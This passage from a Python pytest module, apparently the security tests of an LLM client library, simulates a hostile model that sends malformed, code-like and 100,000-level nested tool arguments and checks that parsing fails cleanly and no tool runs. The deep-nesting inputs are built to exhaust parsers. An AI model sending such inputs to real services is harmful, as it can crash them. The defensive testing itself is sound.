            refused=frozenset(
                {"invalid-json", "truncated-json", "python-call", "n-5000-digits", "deep-5000"}
            ),
        ),
        id="anthropic",
    ),
]
STREAMED_REJECTED = [
    pytest.param(i, a, e, id=i)
    for i, a, e in REJECTED
    if i
    in {
        "invalid-json",
        "truncated-json",
        "python-call",
        "array",
        "string",
        "unknown-field",
        "dunder-field",
        "q-object",
        "n-word",
        "n-5000-digits",
        "deep-5000",
    }
]


@contextmanager
def hostile_model(wire: HostileWire, *bodies: bytes) -> Iterator[ReplayServer]:
    """A loopback server playing a hostile model, registered for `wire`'s scope."""
    with ReplayServer([RecordedResponse(b) for b in bodies], piece_size=4096) as server:
        llm.register_provider(
            wire.provider,
            scope=wire.scope,
            api_key=KEY,
            base_url=server.url + wire.prefix,
            max_retries=0,
        )
        yield server


@pytest.mark.parametrize("wire", HOSTILE_WIRES)
@pytest.mark.parametrize(("case_id", "args", "expected"), STREAMED_REJECTED)
def test_streamed_hostile_arguments_fail_cleanly(
    wire: HostileWire,
    case_id: str,
    args: str,
    expected: Expected,
    recorder: Recorder,
) -> None:
    """Through `execute_tools()` on stream and call responses; where the decoder refuses the
    arguments, through the stream's own clean `ResponseValidationError` instead."""
    tools = make_tools(recorder)
    body = wire.body("record", args)
    with hostile_model(wire, body, body):
        model = llm.Model(wire.model_id)
        stream = model.stream("hello", tools=[tools["sync"]])
        if case_id in wire.refused:
            with pytest.raises(llm.ResponseValidationError) as raised:
                stream.finish()
            assert "invalid input JSON" in str(raised.value)
            assert len(str(raised.value)) < 10_000
            assert stream.tool_calls == [] and stream.execute_tools() == []
            with pytest.raises(llm.ResponseValidationError):
                model.call("hello", tools=[tools["sync"]])
            assert recorder.calls == []
            return
        stream.finish()
        assert [c.args for c in stream.tool_calls] == [args]  # kept as sent, never evaluated
        response = model.call("hello", tools=[tools["sync"]])
    for outputs in (stream.execute_tools(), response.execute_tools()):
        assert len(outputs) == 1
        assert isinstance(outputs[0].error, llm.ToolExecutionError)
        assert isinstance(outputs[0].error.tool_exception, expected)
    assert recorder.calls == []


@pytest.mark.parametrize("wire", HOSTILE_WIRES)
async def test_async_streamed_hostile_arguments_fail_cleanly(
    wire: HostileWire, recorder: Recorder
) -> None:
    tools = make_tools(recorder)
    bad = [a for i, a, _ in REJECTED if i in ("string", "array", "unknown-field", "n-word")]
    with hostile_model(wire, *(wire.body("arecord", a) for a in bad)):
        model = llm.Model(wire.model_id)
        for _ in bad:
            stream = await model.stream_async("hello", tools=[tools["async"]])
            await stream.finish()
            outputs = await stream.execute_tools()
            assert isinstance(outputs[0].error, llm.ToolExecutionError)
    assert recorder.calls == []


@pytest.mark.parametrize("wire", HOSTILE_WIRES)
def test_streamed_code_like_and_huge_arguments_arrive_as_data(
    wire: HostileWire, recorder: Recorder
) -> None:
    tools = make_tools(recorder)
    texts = [*AS_DATA, "x" * HUGE]
    with hostile_model(wire, *(wire.body("record", json.dumps({"q": t})) for t in texts)):
        model = llm.Model(wire.model_id)
        for text in texts:
            stream = model.stream("hello", tools=[tools["sync"]])
            stream.finish()
            outputs = stream.execute_tools()
            assert outputs[0].error is None, outputs[0].result
            assert recorder.calls[-1] == (text, 0)
    assert len(recorder.calls) == len(texts)
    assert not Path("/tmp", MARKER_NAME).exists()


# ---- 100,000 nested brackets, in a subprocess (a crash there fails the test, not the run) --

DEEP_SCRIPT = textwrap.dedent(
    """
    import asyncio, json, sys
    from ferriscope import llm
    from ferriscope.testing import RecordedResponse, ReplayServer
    sys.path.insert(0, sys.argv[1])
    from test_security import anthropic_tool_stream, completions_tool_stream

    DEPTH = 100_000
    calls = []

    @llm.tool
    def record(q: str) -> str:
        calls.append(q)
        return "ran"

    @llm.tool
    async def arecord(q: str) -> str:
        calls.append(q)
        return "ran"

    deep = "[" * DEPTH + "]" * DEPTH
    deep_objects = '{"q":' * DEPTH + "1" + "}" * DEPTH
    cases = {
        "array": deep,
        "in-field": '{"q": ' + deep + "}",
        "objects": deep_objects,
        "unclosed": "[" * DEPTH,
    }
    results = {}

    def outcome(output):
        error = output.error
        return {
            "error": type(error).__name__,
            "cause": type(getattr(error, "tool_exception", None)).__name__,
            "result_len": len(str(output.result)),
        }

    for name, args in cases.items():
        call = llm.ToolCall(id="c", name="record", args=args)
        results["toolkit-" + name] = outcome(llm.Toolkit([record]).execute(call))
        acall = llm.ToolCall(id="c", name="arecord", args=args)
        results["async-" + name] = outcome(asyncio.run(llm.AsyncToolkit([arecord]).execute(acall)))

    streams = {
        "completions": ("openai:completions", "openai/", "openai/gpt-4o", "/v1",
                        completions_tool_stream),
        "anthropic": ("anthropic", "anthropic/", "anthropic/claude-sonnet-4-5", "",
                      anthropic_tool_stream),
    }
    for wire, (provider, scope, model_id, prefix, body) in streams.items():
        for name in ("array", "in-field"):
            with ReplayServer([RecordedResponse(body("record", cases[name]))],
                              piece_size=65536) as server:
                llm.reset_provider_registry()
                llm.register_provider(provider, scope=scope, api_key="k" * 20,
                                      base_url=server.url + prefix, max_retries=0)
                try:
                    response = llm.Model(model_id).call("hi", tools=[record])
                except llm.Error as error:  # the decoder refused the arguments
                    results[wire + "-" + name] = {
                        "error": type(error).__name__, "cause": None, "result_len": len(str(error))
                    }
                    continue
                assert response.tool_calls[0].args == cases[name]
                results[wire + "-" + name] = outcome(response.execute_tools()[0])

    # Gemini sends arguments as a JSON object inside the event: the decoder must refuse the
    # depth (serde_json's recursion limit), failing the stream cleanly.
    event = {"candidates": [{"content": {"parts": [{"functionCall": {"name": "record",
             "args": {"q": "PLACEHOLDER"}}}], "role": "model"}, "index": 0,
             "finishReason": "STOP"}], "modelVersion": "m", "responseId": "r"}
    data = json.dumps(event).replace('"PLACEHOLDER"', deep)
    with ReplayServer([RecordedResponse(("data: " + data + "\\r\\n\\r\\n").encode())],
                      piece_size=65536) as server:
        llm.reset_provider_registry()
        llm.register_provider("google", scope="google/", api_key="k" * 20,
                              base_url=server.url, max_retries=0)
        try:
            llm.Model("google/gemini-2.5-flash").call("hi", tools=[record])
            results["google"] = {"error": None}
        except llm.Error as error:
            results["google"] = {"error": type(error).__name__, "result_len": len(str(error))}

    results["calls"] = len(calls)
    print(json.dumps(results))
    """
)


@pytest.mark.timeout(300)  # its subprocess has 120 s of its own
def test_hundred_thousand_nested_brackets_fail_cleanly(tmp_path: Path) -> None:
    script = tmp_path / "deep.py"
    script.write_text(DEEP_SCRIPT)
    done = subprocess.run(
        [sys.executable, str(script), str(Path(__file__).parent)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, (done.returncode, done.stderr[-3000:])
    results = json.loads(done.stdout.strip().splitlines()[-1])
    assert results.pop("calls") == 0  # no tool ever ran
    google = results.pop("google")
    assert google["error"] == "ResponseValidationError"
    assert google["result_len"] < 10_000
    # The Anthropic decoder parses each tool's input itself (serde_json, depth <= 128).
    assert results.pop("anthropic-array")["error"] == "ResponseValidationError"
    assert results.pop("anthropic-in-field")["error"] == "ResponseValidationError"
    assert len(results) == 10
    for name, outcome in results.items():
        assert outcome["error"] == "ToolExecutionError", name
        assert outcome["cause"] in ("RecursionError", "JSONDecodeError"), (name, outcome)
        assert outcome["result_len"] < 10_000, name
